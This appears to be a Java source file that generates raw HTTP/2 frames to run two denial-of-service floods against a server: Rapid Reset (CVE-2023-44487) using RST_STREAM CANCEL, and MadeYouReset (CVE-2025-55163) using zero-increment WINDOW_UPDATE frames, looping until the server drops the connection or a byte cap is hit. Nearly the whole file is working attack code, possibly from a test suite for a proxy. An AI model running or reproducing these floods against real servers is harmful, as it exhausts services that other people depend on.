package io.fedmesh.sidecar;

import java.io.ByteArrayOutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * HTTP/2 floods of streams that end in a reset, written as raw frames with {@link
 * ContinuationFlood#flood} as fast as the socket takes them, so that one read of the server holds
 * thousands of them: each round opens a stream with a complete GET (what a server must hand on to
 * its app) and then gets it reset.
 *
 * <ul>
 *   <li>Rapid reset (CVE-2023-44487): the client resets the stream itself with RST_STREAM(CANCEL);
 *       the stream no longer counts against the concurrency limit while the request may be at work.
 *   <li>MadeYouReset (CVE-2025-55163): the client never resets a stream, it makes the server do it
 *       with a WINDOW_UPDATE of zero on it, a stream error the server answers with RST_STREAM. A
 *       server that only limits the resets its clients send does unbounded work.
 * </ul>
 */
public final class ResetFloods {
  /** The payload of RST_STREAM with CANCEL (8). */
  private static final byte[] RST_CANCEL = {0, 0, 0, 8};

  private ResetFloods() {}

  /**
   * Rapid reset on {@code socket} (connected, handshake done) with requests for {@code authority}.
   */
  public static ContinuationFlood.Result rapidReset(Socket socket, String authority)
      throws Exception {
    return flood(socket, authority, 3, RST_CANCEL);
  }

  /** MadeYouReset on {@code socket} (connected, handshake done), requests for {@code authority}. */
  public static ContinuationFlood.Result madeYouReset(Socket socket, String authority)
      throws Exception {
    // WINDOW_UPDATE with increment 0
    return flood(socket, authority, 8, new byte[4]);
  }

  /** The HPACK header block of {@code GET http://authority/} (no Huffman, no dynamic table). */
  public static byte[] requestHeaders(String authority) {
    byte[] host = authority.getBytes(StandardCharsets.US_ASCII);
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    // GET, http, /, then :authority as a literal without indexing (name index 1)
    block.write(0x82);
    block.write(0x86);
    block.write(0x84);
    block.write(0x01);
    block.write(host.length);
    block.writeBytes(host);
    return block.toByteArray();
  }

  /**
   * Runs rounds of a GET for {@code authority} (HEADERS with END_STREAM and END_HEADERS) followed
   * by a frame of {@code type} with {@code payload} on the same stream, until the server closes the
   * connection or {@link ContinuationFlood#CAP} bytes are written.
   */
  private static ContinuationFlood.Result flood(
      Socket socket, String authority, int type, byte[] payload) throws Exception {
    byte[] headers = requestHeaders(authority);
    return ContinuationFlood.flood(
        socket, opening(), i -> round(2 * i + 1, headers, type, payload));
  }

  /** The client's connection preface and an empty SETTINGS frame (never acknowledged later). */
  public static byte[] opening() {
    ByteArrayOutputStream opening = new ByteArrayOutputStream();
    opening.writeBytes(ContinuationFlood.PREFACE);
    opening.writeBytes(ContinuationFlood.frame(4, 0, 0, new byte[0]));
    return opening.toByteArray();
  }

  /** One rapid-reset round on {@code stream}: a GET of {@code headers}, then RST_STREAM CANCEL. */
  public static byte[] rapidResetRound(int stream, byte[] headers) {
    return round(stream, headers, 3, RST_CANCEL);
  }

  /**
   * HEADERS of {@code headers} with END_STREAM and END_HEADERS on {@code stream}, then a frame of
   * {@code type} with {@code payload} on it.
   */
  private static byte[] round(int stream, byte[] headers, int type, byte[] payload) {
    ByteArrayOutputStream round = new ByteArrayOutputStream();
    round.writeBytes(ContinuationFlood.frame(1, 0x5, stream, headers));
    round.writeBytes(ContinuationFlood.frame(type, 0, stream, payload));
    return round.toByteArray();
  }
}
